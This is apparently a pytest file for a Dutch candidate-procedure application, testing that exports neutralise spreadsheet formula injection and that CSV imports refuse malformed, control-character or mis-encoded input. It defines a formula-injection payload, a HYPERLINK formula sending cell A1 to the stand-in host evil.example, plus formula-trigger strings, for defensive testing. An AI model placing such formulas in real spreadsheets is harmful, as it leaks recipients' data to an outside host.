"""The examples of the bad-input issue, each as a test through the services."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from bewustwerven.services.app import App
from bewustwerven.services.reporting import ReportingService
from tests.services.conftest import make_procedure

FROM, TO = date(2000, 1, 1), date(2100, 1, 1)
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier voor de bijlage")'
CHANNELS = ("=1+2", "+31 cmd", "@SUM(A1:A9)")


def _hostile_procedure(org: App) -> int:
    pid = make_procedure(org)
    rita = org.as_user("rita")
    assert rita.procedures.advance(pid, acknowledge_warnings=True).advanced
    rows = ["Naam;E-mail;Kanaal"] + [
        f"Persoon {i};p{i}@example.nl;{CHANNELS[i % 3]}" for i in range(6)
    ]
    result = rita.candidates.import_csv(pid, "\n".join(rows).encode())
    assert result.imported == 6, result.errors
    org.as_user("rita").deviations.request(pid, "CHAN", HYPERLINK)  # a waivable rule
    return pid


def _cells(path: Path) -> list[str]:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as fh:
            return [c for r in csv.reader(fh, delimiter=";") for c in r]
    wb = load_workbook(path)
    out = []
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value}"
                out.append(str(c.value))
    return out


def test_deviation_justification_and_channels_never_run(org: App, tmp_path: Path) -> None:
    pid = _hostile_procedure(org)
    hr = org.as_user("hanna")
    service = ReportingService(hr.db, hr.actor)
    csv_cells = _cells(service.export_dossier(pid, tmp_path / "d.csv").path)
    assert "'" + HYPERLINK in csv_cells and HYPERLINK not in csv_cells
    xlsx_cells = _cells(service.export_dossier(pid, tmp_path / "d.xlsx").path)
    assert HYPERLINK in xlsx_cells  # shown as typed, as a string cell
    for suffix in ("csv", "xlsx"):
        cells = _cells(service.export_organisation(FROM, TO, tmp_path / f"o.{suffix}").path)
        for ch in CHANNELS:
            if suffix == "csv":
                assert ch not in cells and "'" + ch in cells
            else:
                assert ch in cells
        assert not [c for c in cells if suffix == "csv" and c[:1] in ("=", "@")]


# -- import: nothing merged, nothing lost ---------------------------------------------


def _open(org: App) -> tuple[int, App]:
    pid = make_procedure(org)
    rita = org.as_user("rita")
    assert rita.procedures.advance(pid, acknowledge_warnings=True).advanced
    return pid, rita


def _stored(rita: App, pid: int) -> list[str]:
    return [r.name or "" for r in rita.candidates.list(pid, with_identity=True)]


HEAD = "Naam;E-mail;Telefoon;Geboorteland\n"


def _refused(rita: App, pid: int, data: bytes) -> list[tuple[int, str]]:
    result = rita.candidates.import_csv(pid, data)
    assert result.imported == 0 and result.errors
    assert _stored(rita, pid) == []
    return [(e.line, e.message("en")) for e in result.errors]


def test_one_unbalanced_quote_merges_nobody(org: App) -> None:
    pid, rita = _open(org)
    data = (
        HEAD + '"Jan de Vries;jan@example.nl;0612345678;NL\n'
        "Fatima El Amrani;fatima@example.nl;0687654321;MA\n"
        'Piet Bakker;piet@example.nl;0611111111;"NL"\n'
    ).encode()
    errors = _refused(rita, pid, data)
    assert errors[0][0] == 2  # the line where the broken record starts


def test_quote_that_never_closes_is_an_error_with_its_line(org: App) -> None:
    pid, rita = _open(org)
    data = (HEAD + 'Jan;jan@example.nl;0612345678;NL\nPiet;"piet@example.nl;06;NL\n').encode()
    errors = _refused(rita, pid, data)
    assert errors[0][0] == 3 and "quote" in errors[0][1]


def test_wrong_number_of_fields(org: App) -> None:
    pid, rita = _open(org)
    errors = _refused(rita, pid, (HEAD + "Jan;jan@example.nl;0612345678\n").encode())
    assert errors == [(2, "This line has 3 fields, the header line 4.")]


def test_newline_control_and_ansi_in_names_are_refused(org: App) -> None:
    pid, rita = _open(org)
    for name in ('"Jan\nde Vries"', "Jan\x1b[31m de Vries", "Jan\x07", "Jan \u202eseirV"):
        errors = _refused(rita, pid, (HEAD + f"{name};jan@example.nl;0612345678;NL\n").encode())
        assert errors[0][0] == 2, name


def test_two_addresses_in_one_field(org: App) -> None:
    pid, rita = _open(org)
    data = (HEAD + "Jan de Vries;jan@example.nl, fatima@example.nl;0612345678;NL\n").encode()
    errors = _refused(rita, pid, data)
    assert "more than one e-mail address" in errors[0][1]


def test_utf8_file_with_one_cp1252_byte_is_refused_with_the_line(org: App) -> None:
    pid, rita = _open(org)
    data = (
        (HEAD + "Zoë Bakker;zoe@example.nl;0612345678;NL\n").encode()
        + "Ayşe Yılmaz;ayse@example.nl;0687654321;TR\n".encode()
        + "Jürgen Müller;jm@example.nl;0611111111;DE\n".encode("cp1252")
    )
    errors = _refused(rita, pid, data)
    assert errors[0][0] == 4 and "UTF-8" in errors[0][1]


def test_excel_unicode_text_utf16_imports(org: App) -> None:
    pid, rita = _open(org)
    rows = "Naam\tE-mail\tTelefoon\r\nAyşe Yılmaz\tayse@example.nl\t0612345678\r\n"
    result = rita.candidates.import_csv(pid, rows.encode("utf-16"))
    assert result.imported == 1, result.errors
    assert result.parsed.encoding == "utf-16"
    assert _stored(rita, pid) == ["Ayşe Yılmaz"]


def test_nul_byte_in_a_letter_is_a_clear_error(org: App) -> None:
    pid, rita = _open(org)
    data = b"Naam;E-mail;Motivatie\nJan;jan@example.nl;Beste \x00commissie\n"
    errors = _refused(rita, pid, data)
    assert errors[0][0] == 2 and "NUL" in errors[0][1]


def test_channel_too_long_is_the_same_clear_error_everywhere(org: App) -> None:
    pid, rita = _open(org)
    data = f"Naam;E-mail;Kanaal\nJan;jan@example.nl;{'x' * 5000}\n".encode()
    errors = _refused(rita, pid, data)
    assert errors == [(2, "The column 'Kanaal' is too long (5000 characters; the maximum is 200).")]


def test_no_name_column_names_found_and_accepted_headers(org: App) -> None:
    _pid, rita = _open(org)
    result = rita.candidates.preview(b"Persoon;Adres\nJan;jan@example.nl\n")
    nl, en = result.errors[0].message("nl"), result.errors[0].message("en")
    assert "'Persoon', 'Adres'" in nl and "'naam'" in nl and "Gevonden kolommen" in nl
    assert "'Persoon', 'Adres'" in en and "'last name'" in en and "Columns found" in en


def test_unmapped_columns_and_missing_contact_are_told(org: App) -> None:
    pid, rita = _open(org)
    look = rita.candidates.preview_for(
        pid, b"Naam;Status;Geboortedatum;Nationaliteit\nJan;nieuw;1990-01-01;NL\n"
    )
    assert look.parsed.unmapped == ("Status", "Geboortedatum", "Nationaliteit")
    assert look.parsed.no_contact


def test_same_file_twice_adds_nothing_and_says_so(org: App) -> None:
    pid, rita = _open(org)
    data = (HEAD + "Jan;jan@example.nl;0612345678;NL\nPiet;piet@example.nl;0611111111;NL\n")
    assert rita.candidates.import_csv(pid, data.encode()).imported == 2
    again = rita.candidates.import_csv(pid, data.encode())
    assert again.imported == 0 and again.already_imported_at is not None
    assert "nothing was added" in again.message("en") and "niets" in again.message("nl")
    assert sorted(_stored(rita, pid)) == ["Jan", "Piet"]


def test_same_person_twice_is_flagged_and_skipped_unless_chosen(org: App) -> None:
    pid, rita = _open(org)
    rita.candidates.import_csv(pid, (HEAD + "Jan;jan@example.nl;0612345678;NL\n").encode())
    second = (
        HEAD + "Jan de Vries; JAN@Example.nl ;0699999999;NL\n"  # same e-mail, normalised
        "J. Smit;smit@example.nl;0611111111;NL\n"
        "J. Smit;other@example.nl;+31 6 1111 1111;NL\n"  # same name and phone, in the file
    ).encode()
    look = rita.candidates.preview_for(pid, second)
    assert [(d.line, d.reason, d.in_file) for d in look.duplicates] == [
        (2, "email", False),
        (4, "name_phone", True),
    ]
    result = rita.candidates.import_csv(pid, second)
    assert result.imported == 1 and result.skipped == (2, 4)
    assert "2 probable duplicates skipped" in result.message("en")
    third = (HEAD + "Jan;jan@example.nl;0612345678;NL\n").encode() + b"\n"
    assert rita.candidates.import_csv(pid, third, duplicates="import").imported == 1
    assert sorted(_stored(rita, pid)) == ["J. Smit", "Jan", "Jan"]
